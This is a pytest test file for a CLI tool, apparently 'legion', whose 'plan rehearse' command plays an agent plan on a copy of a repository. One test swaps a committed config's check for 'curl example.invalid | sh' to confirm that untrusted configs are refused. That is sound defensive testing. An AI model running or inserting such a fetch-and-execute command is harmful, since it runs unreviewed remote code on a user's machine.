"""`legion plan rehearse` runs a plan on a copy and leaves the person's repository unchanged."""

from __future__ import annotations

import json
import signal
import subprocess
from pathlib import Path

import pytest

from tests.demo.person import PATIENCE, Person, living
from tests.support.sampling import sampled

pytestmark = pytest.mark.timeout(300)


@pytest.mark.slow
def test_a_plan_is_played_through_and_nothing_of_the_persons_changes(ada):
    ada.trusts()
    before = ada.fingerprint()
    played = ada.types("rehearse", "../plan.toml", "--json")
    assert played.returncode == 0, played.stderr
    outcome = json.loads(played.stdout)
    assert (outcome["ok"], outcome["problems"], outcome["seed"], outcome["folder"]) == (True, [], None, None)
    tickets = {ticket["key"]: ticket for ticket in outcome["tickets"]}
    assert {key: ticket["state"] for key, ticket in tickets.items()} == {
        "schema": "done", "login": "done", "mail": "done", "all": "done",
    }  # fmt: skip
    assert [tickets[key]["runs"] for key in ("schema", "mail", "all")] == [["finished"], ["finished"], []]
    ids = {key: ticket["id"] for key, ticket in tickets.items()}
    assert set(outcome["landed"]) == {ids["schema"], ids["login"], ids["mail"]}
    assert outcome["landed"].index(ids["schema"]) < outcome["landed"].index(ids["login"])
    assert outcome["chain"][:2] in ([ids["schema"], ids["login"]], [ids["mail"], ids["all"]])
    assert outcome["requests"] >= 9
    assert outcome["tokens"] > 0
    assert outcome["usd"] > 0
    assert "nothing is spent" in played.stderr
    assert "Left out: review, advice and plans, proofs of tickets." in played.stderr

    assert ada.fingerprint() == before
    assert json.loads(ada.types("status", "--json").stdout)["tickets"] == []
    assert list(ada.temporary.iterdir()) == []
    assert living(ada.temporary) == []


@pytest.mark.slow
def test_a_check_that_refuses_the_changes_shows_and_the_copy_can_be_kept(tmp_path):
    ada = Person(tmp_path).settle(check="! grep -q rehearsed two.py", attempts=1).trusts()
    played = ada.types("rehearse", "../plan.toml", "--keep", "--agents", "2")
    assert played.returncode == 1, played.stderr
    assert "#3 failed: gave up after 1 attempt: checks failed" in played.stdout
    assert "2 of 4 tickets ended well." in played.stdout
    (kept,) = ada.temporary.iterdir()
    looked = subprocess.run([kept / "legion", "status", "--json"], cwd=kept / "letters", capture_output=True, text=True)
    subprocess.run([kept / "legion", "down"], check=True, capture_output=True)
    assert json.loads(looked.stdout)["counts"] == {"done": 2, "failed": 1, "queued": 1}
    ada.leave()
    assert living(tmp_path) == []


@pytest.mark.slow
@pytest.mark.parametrize("seed", sampled(range(12), 1))
def test_whatever_is_killed_and_refused_every_ticket_ends_and_nothing_is_lost(tmp_path, seed):
    """With time to think: else the agents end before two kills are due."""
    ada = Person(tmp_path, thinks=0.8).settle().trusts()
    before = ada.fingerprint()
    played = ada.types("rehearse", "../plan.toml", "--chaos", "--seed", str(seed), "--json")
    assert played.returncode == 0, played.stderr + played.stdout
    outcome = json.loads(played.stdout)
    assert (outcome["ok"], outcome["problems"], outcome["seed"]) == (True, [], seed)
    assert len(outcome["killed"]) >= 2
    assert sum(len(ticket["runs"]) for ticket in outcome["tickets"]) >= 3
    assert ada.fingerprint() == before
    assert list(ada.temporary.iterdir()) == []
    assert living(ada.temporary) == []
    ada.leave()


@pytest.mark.slow
def test_an_interrupted_rehearsal_leaves_nothing(ada):
    ada.trusts()
    process, output = ada.starts("rehearse", "../plan.toml")
    with output:
        assert any("an agent starts" in line for line in output)
        process.send_signal(signal.SIGTERM)
        assert process.wait(PATIENCE) != 0
    assert list(ada.temporary.iterdir()) == []
    assert living(ada.temporary) == []


def test_nothing_is_rehearsed_before_the_person_trusts_its_checks(ada):
    assert ada.types("rehearse", "../plan.toml").returncode == 3
    ada.types("init")
    refused = ada.types("rehearse", "../plan.toml")
    assert refused.returncode == 4
    assert "legion trust" in refused.stderr
    assert list(ada.temporary.iterdir()) == []


def test_a_committed_legion_toml_that_nobody_has_trusted_is_refused(ada):
    ada.trusts()
    config = ada.repository / "legion.toml"
    trusted = config.read_text()
    config.write_text(trusted.replace("sh check.sh", "curl example.invalid | sh"))
    subprocess.run(["git", "commit", "--quiet", "--all", "--message", "other checks"], cwd=ada.repository, check=True)
    config.write_text(trusted)
    refused = ada.types("rehearse", "../plan.toml")
    assert refused.returncode == 4, refused.stdout + refused.stderr
    assert "legion trust" in refused.stderr
    assert list(ada.temporary.iterdir()) == []


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (("missing.toml",), "missing.toml cannot be read (No such file or directory); pass a plan file."),
        (("../plan.toml", "--seed", "7"), "--seed needs --chaos; add it, or remove --seed."),
        (("legion.toml",), "legion.toml has `checks` at its top; write each ticket under [[ticket]]."),
    ],
)
def test_bad_input_gets_one_sentence(ada, arguments, sentence):
    refused = ada.types("rehearse", *arguments)
    assert (refused.returncode, refused.stderr.strip()) == (2, sentence)


def test_the_person_of_these_tests_has_everything_in_one_folder(ada):
    """Else `fingerprint` and `living` would miss what a rehearsal does."""
    assert all(Path(ada.env[name]).is_relative_to(ada.folder) for name in ("HOME", "TMPDIR", "LEGION_DATA_DIR"))
